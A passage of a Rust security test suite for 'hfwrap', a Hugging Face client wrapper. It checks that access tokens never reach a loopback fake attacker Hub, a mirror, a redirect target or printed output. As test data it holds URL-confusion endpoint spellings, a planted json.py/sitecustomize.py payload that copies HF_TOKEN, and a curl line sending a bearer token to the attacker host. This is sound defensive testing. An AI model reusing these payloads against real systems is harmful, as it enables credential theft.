//! hfwrap's token promise under attack (issue 10): a token goes only to the official Hub or an
//! endpoint the user trusted, decided on a parsed URL and on where the failing requests went;
//! never to a mirror, never in argv, never printed; and no link in a fix is a server's to choose.
//!
//! The attacker is a loopback fake Hub (tests/fakehub) that answers every request as a gated repo
//! would without a token (401 `GatedRepo`, and `WWW-Authenticate: Basic` for git), so that every
//! client fails in the way that makes hfwrap look for a token, and logs every request with whether
//! it carried an `Authorization` header (and the header's sha256). Each test runs the real clients
//! (`hf` 2.4.0, `huggingface-cli` 0.25.2, git, python) under the real hfwrap and asserts: the
//! attacker saw no token, hfwrap exited, and nothing hfwrap wrote (its lines, its workflow commands,
//! the report, the step summary) holds a secret. Where a test's setup could be doubted, a control
//! run without hfwrap shows the attack is real.
//!
//! Sections: 1. `HF_ENDPOINT` spellings; 2. the Hub probe; 3. git and redirects; 4. programs whose
//! requests hfwrap cannot follow; 5. the mirror switch; 6. what is printed; 7. the links of a fix.
//!
//! Run through ./scripts/test (it builds the client venvs): `./scripts/test --test e2e security::`.

use crate::common::clients::*;
use crate::common::fakehub::*;
use crate::common::wrapped::*;
use crate::common::*;
use serde_json::json;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The 401 a gated repo gives a request without a token.
fn gated_message() -> String {
    format!(
        "Access to model {GATED} is restricted. You must have access to it and be authenticated to access it. Please log in."
    )
}

/// A fake Hub that answers everything (any path, any method) like a gated repo to a request
/// without a token, and logs whether each request carried a token.
fn attacker() -> FakeHub {
    hub_with(json!([{
        "kind": "status", "status": 401, "name": "attacker",
        "on": ["api", "tree", "resolve", "cdn", "git", "lfs", "misc"],
        "error_code": "GatedRepo", "message": gated_message(),
        "headers": {"WWW-Authenticate": "Basic realm=\"Authentication required\""}
    }]))
}

fn assert_no_token_reached(who: &str, hub: &FakeHub, w: &Wrapped) {
    assert!(
        hub.requests().iter().all(|r| !r.has_authorization),
        "{who} got an Authorization header:\n{}\n{}",
        hub.dump_requests(),
        w.dump()
    );
}

/// Everything hfwrap itself wrote: its `hfwrap:` lines, its workflow commands (but `::add-mask::`,
/// which must carry the secret to mask it), the JSON report and the step summary.
fn hfwrap_text(w: &Wrapped, summary: Option<&Path>) -> String {
    let stderr = w.run.stderr_plain();
    let commands: Vec<&str> =
        stderr.lines().filter(|l| l.starts_with("::") && !l.starts_with("::add-mask::")).collect();
    format!(
        "{}\n{}\n{}\n{}",
        w.run.hfwrap_lines().join("\n"),
        commands.join("\n"),
        serde_json::to_string(&w.report).unwrap(),
        summary.map(read_lossy).unwrap_or_default()
    )
}

fn assert_hfwrap_never_wrote(w: &Wrapped, summary: Option<&Path>, secret: &str) {
    let text = hfwrap_text(w, summary);
    assert!(!text.contains(secret), "hfwrap wrote {secret:?}:\n{text}\n{}", w.dump());
}

/// GitHub Actions mode with a step summary file; returns its path.
fn github(env: &mut TestEnv) -> PathBuf {
    let summary = env.path("step-summary.md");
    env.set("GITHUB_ACTIONS", "true").set("GITHUB_STEP_SUMMARY", &summary);
    summary
}

/// A token file holding [`good_token`], for `--token-file`.
fn token_file(env: &TestEnv) -> PathBuf {
    write_token_file(&env.path("secrets/hf-token"), &good_token())
}

/// Why hfwrap did not retry, from the report's fix (it carries the reason) and its lines.
fn why(w: &Wrapped) -> String {
    format!("{}\n{}", w.fix(), w.run.hfwrap_lines().join("\n"))
}

// ---------------------------------------------------------------------------------------------
// 1. HF_ENDPOINT spellings that read as a trusted endpoint to a string check but send the client
//    to the attacker (or that only look alike). The token file is there, the endpoint named in
//    the trick is trusted: hfwrap must send nothing, and say why.
// ---------------------------------------------------------------------------------------------

struct Trick {
    name: &'static str,
    endpoint: String,
    trust: Vec<String>,
    /// The clients go to the attacker with it (so the refusal is what protects the token).
    reaches: bool,
}

fn tricks(evil: u16, hub: u16) -> Vec<Trick> {
    let t =
        |name, endpoint: String, trust: &[String], reaches| Trick { name, endpoint, trust: trust.to_vec(), reaches };
    let hub_url = format!("http://127.0.0.1:{hub}");
    let ours = [hub_url.clone()];
    vec![
        t("?@", format!("http://127.0.0.1:{evil}?@127.0.0.1:{hub}"), &ours, true),
        t("#@", format!("http://127.0.0.1:{evil}#@127.0.0.1:{hub}"), &ours, true),
        t("\\@", format!("http://127.0.0.1:{evil}\\@127.0.0.1:{hub}"), &ours, false),
        t("mixed case and a path", format!("HTTP://127.0.0.1:{evil}/?@127.0.0.1:{hub}"), &ours, true),
        t("user info spelled like the trusted origin", format!("http://127.0.0.1:{hub}@127.0.0.1:{evil}"), &ours, true),
        t("percent-encoded user info", format!("http://127.0.0.1%3A{hub}@127.0.0.1:{evil}"), &ours, true),
        t(
            "trailing dot in the trusted part",
            format!("http://127.0.0.1:{evil}#@127.0.0.1.:{hub}"),
            &[format!("http://127.0.0.1.:{hub}")],
            true,
        ),
        t("IPv6 literal", format!("http://127.0.0.1:{evil}?@[::1]:{hub}"), &[format!("http://[::1]:{hub}")], true),
        t("[::1] is not 127.0.0.1", format!("http://127.0.0.1:{evil}"), &[format!("http://[::1]:{evil}")], true),
        t("https is not http", format!("http://127.0.0.1:{evil}"), &[format!("https://127.0.0.1:{evil}")], true),
        t(
            "the default port is not another port",
            format!("http://127.0.0.1:{evil}"),
            &["http://127.0.0.1:80".into(), "http://127.0.0.1".into()],
            true,
        ),
        t(
            "a trick in the --trust-endpoint entries",
            format!("http://127.0.0.1:{evil}"),
            &[format!("http://127.0.0.1:{hub}?@127.0.0.1:{evil}"), format!("http://127.0.0.1:{hub}#@127.0.0.1:{evil}")],
            true,
        ),
        t("the official Hub in the user info", format!("http://huggingface.co@127.0.0.1:{evil}"), &[], true),
        t("the official Hub behind ?@", format!("http://127.0.0.1:{evil}?@huggingface.co"), &[], true),
    ]
}

fn endpoint_tricks(client: Client) {
    let evil = attacker();
    let hub = hub_with(json!([]));
    let cmd: &[&str] = match client {
        Client::Hub0 => &["huggingface-cli", "download", GATED],
        _ => &["hf", "download", GATED],
    };
    for trick in tricks(evil.port(), hub.port()) {
        let mut env = TestEnv::new(Some(&hub));
        env.client(client).set("HF_ENDPOINT", &trick.endpoint);
        let tf = token_file(&env);
        let mut opts = vec!["--token-file".to_string(), tf.display().to_string()];
        for t in &trick.trust {
            opts.extend(["--trust-endpoint".to_string(), t.clone()]);
        }
        let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
        let before = evil.requests().len();
        let w = wrap(&env, &opts, cmd);
        let what = format!("{client:?}, {} ({})", trick.name, trick.endpoint);
        // The clients send a URL's user info as Basic credentials on their own (the `\@` and
        // user info spellings): that is the user's setting, so what is checked is that hfwrap gave
        // the child nothing (one attempt, no environment change) and no request carried the token.
        assert_ne!(w.run.code, Some(0), "{what}:\n{}", w.dump());
        w.assert_attempts(1);
        assert!(w.attempt_env_changes(0).is_empty(), "{what}:\n{}", w.dump());
        for (who, h) in [("the attacker", &evil), ("the trusted hub", &hub)] {
            assert!(
                h.requests().iter().all(|r| !r.sent_token(&good_token())),
                "{who} got the token ({what}):\n{}",
                h.dump_requests()
            );
        }
        if !trick.endpoint.contains('@') {
            let now: Vec<Request> = evil.requests().into_iter().skip(before).collect();
            assert!(now.iter().all(|r| !r.has_authorization), "the attacker got credentials ({what}):\n{}", w.dump());
        }
        w.assert_nothing_shows(&good_token());
        let reached = evil.requests().len() > before;
        eprintln!("{what}: reached the attacker: {reached}, cause {:?}", w.cause());
        if trick.reaches && client == Client::Hub2 {
            assert!(reached, "{what}: the trick should send hf to the attacker:\n{}", w.dump());
        }
        if w.cause() == Some("auth_required") {
            let why = why(&w);
            assert!(why.contains("not sending the token"), "{what}: hfwrap should say why:\n{}", w.dump());
            // Only a plainly written endpoint of the user's is offered to --trust-endpoint.
            for line in why.lines().filter(|l| l.contains("--trust-endpoint")) {
                assert!(
                    !line.contains('@') && !line.contains('?') && !line.contains('#') && !line.contains('\\'),
                    "{what}: hfwrap offers a trick to --trust-endpoint: {line}"
                );
            }
        } else {
            assert!(!reached || !trick.reaches || client == Client::Hub0, "{what}: {}", w.dump());
        }
    }
}

#[test]
fn hf_endpoint_tricks_never_get_the_token_from_hf() {
    endpoint_tricks(Client::Hub2);
}

#[test]
fn hf_endpoint_tricks_never_get_the_token_from_huggingface_cli() {
    endpoint_tricks(Client::Hub0);
}

#[test]
fn what_the_user_set_about_tokens_is_respected() {
    // HF_HUB_DISABLE_IMPLICIT_TOKEN=1 means no token unless the command passes one: none injected.
    let hub = hub_with(json!([]));
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_HUB_DISABLE_IMPLICIT_TOKEN", "1");
    let tf = token_file(&env);
    let w =
        wrap(&env, &["--token-file", tf.to_str().unwrap(), "--trust-endpoint", hub.url()], &["hf", "download", GATED]);
    w.assert_failed(1, "auth_required").assert_attempts(1);
    assert!(why(&w).contains("HF_HUB_DISABLE_IMPLICIT_TOKEN is set"), "{}", w.dump());
    assert_no_token_reached("the hub", &hub, &w);

    // HF_HOME=~/… is the client's ~ expanded, so the token stored there is the one in effect (and
    // no other is injected over it).
    let hub = hub_with(json!([]));
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_HOME", "~/hfh");
    let stored = write_token_file(&env.path("home/hfh/token"), &other_token());
    let tf = token_file(&env);
    let w =
        wrap(&env, &["--token-file", tf.to_str().unwrap(), "--trust-endpoint", hub.url()], &["hf", "download", GATED]);
    w.assert_failed(1, "auth_required").assert_attempts(1);
    let source = w.report["details"]["token_source"].as_str().unwrap_or("");
    assert!(source.starts_with(&format!("token file {} ", stored.display())), "{}", w.dump());
    assert_eq!(w.report["details"]["hub_says"], "licence_not_accepted", "{}", w.dump());
    assert!(hub.requests().iter().any(|r| r.sent_token(&other_token())), "{}", hub.dump_requests());
    assert!(hub.requests().iter().all(|r| !r.sent_token(&good_token())), "{}", hub.dump_requests());
}

#[test]
fn doctor_does_not_call_a_tricked_endpoint_the_official_hub() {
    let evil = attacker();
    let mut env = TestEnv::new(None);
    let endpoint = format!("http://127.0.0.1:{}?@huggingface.co", evil.port());
    env.set("HF_ENDPOINT", &endpoint).set("HF_TOKEN", good_token());
    let r = run(env.hfwrap().args(["doctor"]), RUN_TIMEOUT);
    let out = format!("{}{}", r.stdout_plain(), r.stderr_plain());
    let line = out.lines().find(|l| l.contains("HF_ENDPOINT=")).unwrap_or_else(|| panic!("no endpoint line:\n{out}"));
    assert!(!line.contains("official Hub)"), "{line}");
    assert!(line.contains("not trusted"), "{line}");
    assert!(!out.contains(&good_token()), "{out}");
    assert!(evil.requests().iter().all(|r| !r.has_authorization), "{}", evil.dump_requests());
}

// ---------------------------------------------------------------------------------------------
// 2. The Hub probe (`whoami` + `auth_check` after a gated failure with a token in effect): only a
//    trusted endpoint, only the token in effect, never a `--token` token, isolated from the
//    working directory, bounded, and Ctrl-C ends it as an interrupt.
// ---------------------------------------------------------------------------------------------

fn probe_requests(hub: &FakeHub) -> Vec<Request> {
    hub.requests().into_iter().filter(|r| r.path.contains("whoami") || r.path.contains("auth-check")).collect()
}

#[test]
fn the_probe_never_goes_to_an_untrusted_endpoint() {
    // The child sends HF_TOKEN to the attacker itself (the user pointed it there); hfwrap's own
    // probe must not send it again.
    let evil = attacker();
    let hub = hub_with(json!([]));
    let mut env = TestEnv::new(None);
    env.set("HF_ENDPOINT", format!("http://127.0.0.1:{}?@127.0.0.1:{}", evil.port(), hub.port()));
    env.set("HF_TOKEN", other_token());
    let w = wrap(&env, &["--trust-endpoint", hub.url()], &["hf", "download", GATED]);
    w.assert_failed(1, "auth_required").assert_attempts(1);
    assert!(!evil.requests().is_empty(), "hf should have gone to the attacker:\n{}", w.dump());
    assert!(probe_requests(&evil).is_empty(), "the probe asked the attacker:\n{}", evil.dump_requests());
    assert!(hub.requests().is_empty(), "{}", hub.dump_requests());
    assert!(w.report["details"].get("hub_says").is_none(), "{}", w.dump());
}

#[test]
fn the_probe_never_sends_a_token_given_with_token_nor_a_stored_one() {
    // Issue 10 item 2: `--token A`, HF_HUB_DISABLE_IMPLICIT_TOKEN=1 and $HF_HOME/token = B. The
    // child sends only A; the probe must send neither A (it stays with the command) nor B.
    let hub = hub_with(json!([]));
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_HUB_DISABLE_IMPLICIT_TOKEN", "1");
    write_token_file(&env.hf_home().join("token"), &good_token());
    let w = wrap(&env, &["--trust-endpoint", hub.url()], &["hf", "download", GATED, "--token", &other_token()]);
    w.assert_failed(1, "auth_required").assert_attempts(1);
    assert!(probe_requests(&hub).is_empty(), "the probe ran for a --token token:\n{}", hub.dump_requests());
    assert!(hub.requests().iter().all(|r| !r.sent_token(&good_token())), "{}", hub.dump_requests());
    assert!(hub.requests().iter().any(|r| r.sent_token(&other_token())), "{}", hub.dump_requests());
    w.assert_hfwrap_never_shows(&other_token()).assert_nothing_shows(&good_token());
}

#[test]
fn the_probe_sends_exactly_the_token_in_effect() {
    let hub = hub_with(json!([]));
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_TOKEN", other_token());
    write_token_file(&env.hf_home().join("token"), &good_token());
    let custom = write_token_file(&env.path("home/elsewhere/token"), &pending_token());
    env.set("HUGGING_FACE_HUB_TOKEN", rejected_token()).set("HF_TOKEN_PATH", &custom);
    let w = wrap(&env, &["--trust-endpoint", hub.url()], &["hf", "download", GATED]);
    w.assert_failed(1, "auth_required").assert_attempts(1);
    assert_eq!(w.report["details"]["hub_says"], "licence_not_accepted", "{}", w.dump());
    let probes = probe_requests(&hub);
    assert!(probes.len() >= 2, "{}", hub.dump_requests());
    assert!(probes.iter().all(|r| r.sent_token(&other_token())), "{}", hub.dump_requests());
    for other in [good_token(), pending_token(), rejected_token()] {
        assert!(hub.requests().iter().all(|r| !r.sent_token(&other)), "{}", hub.dump_requests());
    }
}

#[test]
fn the_probe_runs_isolated_from_the_working_directory() {
    // A cloned model repo in the working directory with a json.py (and sitecustomize.py): the
    // old probe ran `python -c` there, which imports them, with the token in its environment.
    let hub = hub_with(json!([]));
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_TOKEN", other_token());
    let pwned = env.path("pwned");
    let payload = format!(
        "import os\nopen({:?}, 'a').write(os.environ.get('HF_TOKEN', '') + ' ' + __name__ + '\\n')\n",
        pwned.display().to_string()
    );
    for module in ["json.py", "sitecustomize.py", "usercustomize.py", "huggingface_hub.py"] {
        std::fs::write(env.path("work").join(module), &payload).unwrap();
    }
    let w = wrap(&env, &["--trust-endpoint", hub.url()], &["hf", "download", GATED]);
    w.assert_failed(1, "auth_required");
    assert_eq!(w.report["details"]["hub_says"], "licence_not_accepted", "the probe did run:\n{}", w.dump());
    assert!(!pwned.exists(), "code in the working directory ran: {}", read_lossy(&pwned));
}

/// Processes of the probe still alive (its script names HFWRAP_PROBE_ENDPOINT), under `dir`.
fn probes_alive(dir: &Path) -> Vec<i32> {
    let Ok(rd) = std::fs::read_dir("/proc") else { return Vec::new() };
    rd.flatten()
        .filter_map(|e| e.file_name().to_string_lossy().parse::<i32>().ok())
        .filter(|pid| {
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let cwd = std::fs::read_link(format!("/proc/{pid}/cwd")).unwrap_or_default();
            String::from_utf8_lossy(&cmd).contains("HFWRAP_PROBE_ENDPOINT") && cwd.starts_with(dir) && alive(*pid)
        })
        .collect()
}

fn hung_probe_hub() -> FakeHub {
    hub_with(json!([{"kind": "hang", "on": "misc", "path_contains": "whoami", "name": "whoami", "max_seconds": 120}]))
}

#[test]
fn ctrl_c_during_the_probe_is_an_interrupt() {
    let hub = hung_probe_hub();
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_TOKEN", other_token());
    let report = report_path(&env);
    let running =
        spawn(&mut hfwrap_command(&env, &report, &["--trust-endpoint", hub.url()], &["hf", "download", GATED]));
    hub.wait_for_request("the probe's whoami", Duration::from_secs(90), |r| r.fault.as_deref() == Some("whoami"));
    let sent = Instant::now();
    running.signal(libc::SIGINT);
    let w = read_wrapped(running.wait(WRAP_TIMEOUT), &report);
    assert!(sent.elapsed() < Duration::from_secs(5), "Ctrl-C took {:?} to end the probe", sent.elapsed());
    w.assert_code(130).assert_outcome("interrupted");
    let deadline = Instant::now() + Duration::from_secs(5);
    while !probes_alive(&env.path("tmp")).is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(probes_alive(&env.path("tmp")).is_empty(), "the probe outlived hfwrap");
    assert_no_leftovers(Scope::Marker(&env.marker));
}

#[test]
fn a_probe_that_gets_no_answer_is_given_up_on_time() {
    let hub = hung_probe_hub();
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_TOKEN", other_token());
    let started = Instant::now();
    let w = wrap(&env, &["--trust-endpoint", hub.url()], &["hf", "download", GATED]);
    w.assert_failed(1, "auth_required").assert_attempts(1);
    assert!(w.report["details"].get("hub_says").is_none(), "{}", w.dump());
    // The probe's bound is 15 s (recover/probe.rs); the run as a whole stays well under --max-time.
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
    assert!(probes_alive(&env.path("tmp")).is_empty(), "the probe outlived hfwrap");
}

// ---------------------------------------------------------------------------------------------
// 3. git: the injected header is scoped to the clone's origin and never follows a redirect; a
//    failed clone whose output names another host gets no token.
// ---------------------------------------------------------------------------------------------

/// A hub that answers git's requests with a 302 to `to` (only requests with a token when
/// `authenticated_only`).
fn redirecting_hub(to: &str, authenticated_only: bool) -> FakeHub {
    hub_with(json!([{"kind": "status", "status": 302, "on": "git", "name": "redirect",
                     "authenticated_only": authenticated_only, "headers": {"Location": to}}]))
}

#[test]
fn the_git_header_never_follows_a_redirect_to_another_origin() {
    // The attacker serves the public repo, so a git that followed the redirect would go on with
    // `POST …/git-upload-pack` there, the header with it.
    let evil = hub_with(json!([]));
    let to = format!("{}/{TINY}.git/info/refs?service=git-upload-pack", evil.url());
    let hub = redirecting_hub(&to, true);
    let env = TestEnv::new(Some(&hub));
    env.install_git_lfs();
    let url = hub.repo_url(GATED);

    // Control: git with the header alone follows the 302 and sends the header to the other port.
    let header = format!("Authorization: Bearer {}", good_token());
    let key = format!("http.{}/.extraHeader", hub.url());
    let control = run(
        env.git()
            .args(["clone", &url, "control"])
            .env("GIT_CONFIG_COUNT", "1")
            .env("GIT_CONFIG_KEY_0", &key)
            .env("GIT_CONFIG_VALUE_0", &header)
            .env("GIT_LFS_SKIP_SMUDGE", "1"),
        RUN_TIMEOUT,
    );
    assert!(
        evil.requests().iter().any(|r| r.method == "POST" && r.sent_token(&good_token())),
        "the control should show the leak (git {:?}):\n{}\n{}",
        control.code,
        evil.dump_requests(),
        control.dump()
    );
    let leaked = evil.requests().len();

    let tf = token_file(&env);
    let w = wrap(
        &env,
        &["--token-file", tf.to_str().unwrap(), "--trust-endpoint", hub.url()],
        &["git", "clone", &url, "clone"],
    );
    assert_ne!(w.run.code, Some(0), "{}", w.dump());
    w.assert_attempts(2).assert_attempt_cause(0, "auth_required");
    assert!(
        hub.requests().iter().any(|r| r.fault.as_deref() == Some("redirect") && r.sent_token(&good_token())),
        "the re-run should have met the redirect with the header:\n{}",
        hub.dump_requests()
    );
    assert_eq!(evil.requests().len(), leaked, "git followed the redirect:\n{}", evil.dump_requests());
    w.assert_nothing_shows(&good_token());
}

#[test]
fn a_clone_whose_output_names_another_host_gets_no_token() {
    // Every request is redirected, the first attempt's too: git follows it (without a token) and
    // fails there, naming the other host. hfwrap must not send the token after it.
    let evil = hub_with(json!([]));
    let to = format!("{}/{GATED}.git/info/refs?service=git-upload-pack", evil.url());
    let hub = redirecting_hub(&to, false);
    let env = TestEnv::new(Some(&hub));
    env.install_git_lfs();
    let tf = token_file(&env);
    let w = wrap(
        &env,
        &["--token-file", tf.to_str().unwrap(), "--trust-endpoint", hub.url()],
        &["git", "clone", &hub.repo_url(GATED), "clone"],
    );
    w.assert_failed(128, "auth_required").assert_attempts(1);
    assert!(!evil.requests().is_empty(), "git should have followed the redirect:\n{}", w.dump());
    assert_no_token_reached("the other host", &evil, &w);
    assert_no_token_reached("the trusted hub", &hub, &w);
    let why = why(&w);
    assert!(why.contains(&format!("names {}", evil.url())), "{why}\n{}", w.dump());
    assert!(!why.contains(&format!("--trust-endpoint {}", evil.url())), "{why}");
}

// ---------------------------------------------------------------------------------------------
// 4. Programs whose requests hfwrap cannot follow: a python script that moves the endpoint, or
//    passes `endpoint=`, and a shell script calling curl. No token without
//    --inject-token-into-programs, and with it still none toward a host the output names.
// ---------------------------------------------------------------------------------------------

const MOVES_THE_ENDPOINT: &str = r#"
import os, sys
os.environ["HF_ENDPOINT"] = sys.argv[1]
from huggingface_hub import hf_hub_download
hf_hub_download("fake-org/gated-model", "config.json")
"#;

const PASSES_ENDPOINT: &str = r#"
import sys
from huggingface_hub import hf_hub_download
hf_hub_download("fake-org/gated-model", "config.json", endpoint=sys.argv[1])
"#;

fn program_gets_no_token(code: &str) {
    let evil = attacker();
    let hub = hub_with(json!([]));
    let env = TestEnv::new(Some(&hub));
    let tf = token_file(&env);
    let py = hub2_bin("python3");
    let cmd = [py.to_str().unwrap(), "-c", code, evil.url()];
    for opt_in in [false, true] {
        let mut opts = vec!["--token-file", tf.to_str().unwrap(), "--trust-endpoint", hub.url()];
        if opt_in {
            opts.push("--inject-token-into-programs");
        }
        let w = wrap(&env, &opts, &cmd);
        w.assert_failed(1, "auth_required").assert_attempts(1);
        assert_no_token_reached("the attacker", &evil, &w);
        let why = why(&w);
        if opt_in {
            assert!(why.contains(&format!("names {}", evil.url())), "{why}\n{}", w.dump());
        } else {
            assert!(why.contains("--inject-token-into-programs"), "{why}\n{}", w.dump());
        }
        assert!(!why.contains(&format!("--trust-endpoint {}", evil.url())), "{why}");
        w.assert_nothing_shows(&good_token());
    }
    assert!(!evil.requests().is_empty(), "the script should have gone to the attacker");
}

#[test]
fn a_python_script_that_moves_hf_endpoint_gets_no_token() {
    program_gets_no_token(MOVES_THE_ENDPOINT);
}

#[test]
fn a_python_script_that_passes_endpoint_gets_no_token() {
    program_gets_no_token(PASSES_ENDPOINT);
}

#[test]
fn a_shell_script_calling_curl_gets_no_token() {
    // It sends HF_TOKEN to the attacker if it has one, and blames the trusted hub in its output.
    let evil = attacker();
    let hub = hub_with(json!([]));
    let env = TestEnv::new(Some(&hub));
    let tf = token_file(&env);
    let script = env.path("work/fetch.sh");
    write_script(
        &script,
        "#!/bin/sh\n\
         if [ -n \"${HF_TOKEN:-}\" ]; then curl -s -o /dev/null -H \"Authorization: Bearer $HF_TOKEN\" \"$1/api/whoami-v2\"; fi\n\
         curl -s -o /dev/null \"$1/api/whoami-v2\"\n\
         echo \"huggingface_hub.errors.GatedRepoError: 401 Client Error. Cannot access gated repo for url $2/fake-org/gated-model/resolve/main/config.json.\" >&2\n\
         exit 1\n",
    );
    let w = wrap(
        &env,
        &["--token-file", tf.to_str().unwrap(), "--trust-endpoint", hub.url()],
        &["sh", script.to_str().unwrap(), evil.url(), hub.url()],
    );
    w.assert_failed(1, "auth_required").assert_attempts(1);
    assert!(!evil.requests().is_empty(), "curl should have reached the attacker:\n{}", w.dump());
    assert_no_token_reached("the attacker", &evil, &w);
    assert!(why(&w).contains("--inject-token-into-programs"), "{}", w.dump());
}

// ---------------------------------------------------------------------------------------------
// 5. The mirror switch: no stored token reaches the mirror, only downloads are switched, never
//    with a token argument in any spelling.
// ---------------------------------------------------------------------------------------------

/// A `hf` that downloads with `token=True`: it reads the stored token even with
/// HF_HUB_DISABLE_IMPLICIT_TOKEN=1 (what `hf auth whoami` or a script does).
fn explicit_token_hf(env: &TestEnv, python: &Path) -> PathBuf {
    let shim = env.path("shim");
    write_script(
        &shim.join("hf"),
        &format!(
            "#!{}\nfrom huggingface_hub import hf_hub_download\nprint(hf_hub_download({TINY:?}, 'config.json', token=True))\n",
            python.display()
        ),
    );
    shim
}

fn mirror_hides_the_stored_token(python: PathBuf, custom_path: bool) {
    let mirror = hub_with(json!([]));
    let closed = ClosedPort::new();
    let mut env = TestEnv::new(None);
    env.set("HF_ENDPOINT", closed.url());
    let stored = if custom_path {
        let p = write_token_file(&env.path("home/tokens/hf"), &good_token());
        env.set("HF_TOKEN_PATH", &p);
        p
    } else {
        write_token_file(&env.hf_home().join("token"), &good_token())
    };
    let shim = explicit_token_hf(&env, &python);
    env.set("PATH", env.path_with_first(&shim));

    // Control: pointed at the mirror with implicit tokens off, it still sends the stored token.
    let control = run(
        env.command("hf")
            .args(["download", TINY])
            .env("HF_ENDPOINT", mirror.url())
            .env("HF_HUB_DISABLE_IMPLICIT_TOKEN", "1")
            .env("HF_HUB_CACHE", env.path("control-cache")),
        RUN_TIMEOUT,
    );
    assert!(
        mirror.requests().iter().any(|r| r.sent_token(&good_token())),
        "the control should send the stored token ({}):\n{}\n{}",
        stored.display(),
        mirror.dump_requests(),
        control.dump()
    );
    let before = mirror.requests().len();

    let w = wrap(&env, &["--mirror", mirror.url()], &["hf", "download", TINY]);
    w.assert_attempt_cause(0, "network_blocked");
    assert!(w.attempt_env_changes(0).contains(&"HF_TOKEN_PATH".to_string()), "{}", w.dump());
    assert!(w.attempt_action(0).contains("no token is sent to it"), "{}", w.dump());
    let after: Vec<Request> = mirror.requests().into_iter().skip(before).collect();
    assert!(after.iter().all(|r| !r.has_authorization), "the mirror got a token:\n{}", mirror.dump_requests());
    assert!(stored.exists(), "hfwrap must not touch the user's token file");
    w.assert_nothing_shows(&good_token());
}

#[test]
fn after_a_mirror_switch_no_stored_token_reaches_it_from_hub_2() {
    mirror_hides_the_stored_token(hub2_bin("python3"), false);
}

#[test]
fn after_a_mirror_switch_no_stored_token_reaches_it_from_hub_0() {
    mirror_hides_the_stored_token(hub0_bin("python3"), true);
}

#[test]
fn only_downloads_are_switched_to_a_mirror() {
    let mirror = hub_with(json!([]));
    let closed = ClosedPort::new();
    let py = hub2_bin("python3");
    let code =
        format!("from huggingface_hub import hf_hub_download\nhf_hub_download({TINY:?}, 'config.json', token=True)\n");
    for (client, cmd) in [
        (Client::Hub2, vec!["hf", "auth", "whoami"]),
        (Client::Hub0, vec!["huggingface-cli", "whoami"]),
        (Client::Hub2, vec![py.to_str().unwrap(), "-c", code.as_str()]),
    ] {
        let mut env = TestEnv::new(None);
        env.client(client).set("HF_ENDPOINT", closed.url());
        write_token_file(&env.hf_home().join("token"), &good_token());
        let w = wrap(&env, &["--mirror", mirror.url()], &cmd);
        assert_ne!(w.run.code, Some(0), "{cmd:?}:\n{}", w.dump());
        w.assert_attempts(1);
        if w.cause() == Some("network_blocked") {
            assert!(why(&w).contains("only `hf download`"), "{cmd:?}:\n{}", w.dump());
        }
        assert!(mirror.requests().is_empty(), "{cmd:?} reached the mirror:\n{}", mirror.dump_requests());
    }
}

#[test]
fn a_token_argument_in_any_spelling_blocks_the_mirror_switch() {
    let mirror = hub_with(json!([]));
    let closed = ClosedPort::new();
    let tok = good_token();
    for spelling in [vec!["--tok", tok.as_str()], vec!["--t", tok.as_str()]] {
        let mut env = TestEnv::new(None);
        env.client(Client::Hub0).set("HF_ENDPOINT", closed.url());
        let summary = github(&mut env);
        let mut cmd = vec!["huggingface-cli", "download", TINY];
        cmd.extend(&spelling);
        let w = wrap(&env, &["--mirror", mirror.url()], &cmd);
        w.assert_failed(1, "network_blocked").assert_attempts(1);
        assert!(why(&w).contains("passes a token"), "{spelling:?}:\n{}", w.dump());
        assert!(mirror.requests().is_empty(), "{}", mirror.dump_requests());
        assert_hfwrap_never_wrote(&w, Some(&summary), &tok);
    }
}

// ---------------------------------------------------------------------------------------------
// 6. What is printed: a token argument in any spelling, credentials in an endpoint's user info.
// ---------------------------------------------------------------------------------------------

#[test]
fn token_arguments_are_masked_in_groups_report_and_summary() {
    let tok = good_token();
    for spelling in
        [vec!["--tok".to_string(), tok.clone()], vec![format!("--toke={tok}")], vec!["--t".into(), tok.clone()]]
    {
        let hub = hub_with(json!([{"kind": "status", "status": 500, "on": "api", "times": 1}]));
        let mut env = TestEnv::new(Some(&hub));
        env.client(Client::Hub0);
        let summary = github(&mut env);
        let mut cmd = vec!["huggingface-cli", "download", TINY];
        cmd.extend(spelling.iter().map(String::as_str));
        let w = wrap(&env, &[], &cmd);
        w.assert_success().assert_attempts(2);
        let stderr = w.run.stderr_plain();
        let group = stderr.lines().find(|l| l.starts_with("::group::")).unwrap_or_else(|| panic!("{}", w.dump()));
        assert!(group.contains("***"), "{group}");
        assert_hfwrap_never_wrote(&w, Some(&summary), &tok);
        assert!(hub.requests().iter().any(|r| r.sent_token(&tok)), "the command did use its token");
    }
}

#[test]
fn credentials_in_an_endpoint_are_never_printed() {
    let evil = attacker();
    let secret = format!("pw{}", random_alnum(20));
    // HF_ENDPOINT with user info: refused for a token, and shown without it.
    let mut env = TestEnv::new(None);
    let summary = github(&mut env);
    let endpoint = format!("http://bot:{secret}@127.0.0.1:{}", evil.port());
    env.set("HF_ENDPOINT", &endpoint);
    let tf = token_file(&env);
    let w =
        wrap(&env, &["--token-file", tf.to_str().unwrap(), "--trust-endpoint", evil.url()], &["hf", "download", GATED]);
    assert_ne!(w.run.code, Some(0), "{}", w.dump());
    w.assert_attempts(1);
    // (The client itself sends the user info as Basic credentials: the user's own setting.)
    assert!(evil.requests().iter().all(|r| !r.sent_token(&good_token())), "{}", evil.dump_requests());
    if w.cause() == Some("auth_required") {
        assert!(why(&w).contains("never trusted"), "{}", w.dump());
    }
    assert_hfwrap_never_wrote(&w, Some(&summary), &secret);
    let doctor = run(env.hfwrap().args(["doctor"]), RUN_TIMEOUT);
    assert!(!format!("{}{}", doctor.stdout(), doctor.stderr()).contains(&secret), "{}", doctor.dump());

    // A mirror with user info: the switch is announced without it.
    let mirror = hub_with(json!([]));
    let closed = ClosedPort::new();
    let mut env = TestEnv::new(None);
    let summary = github(&mut env);
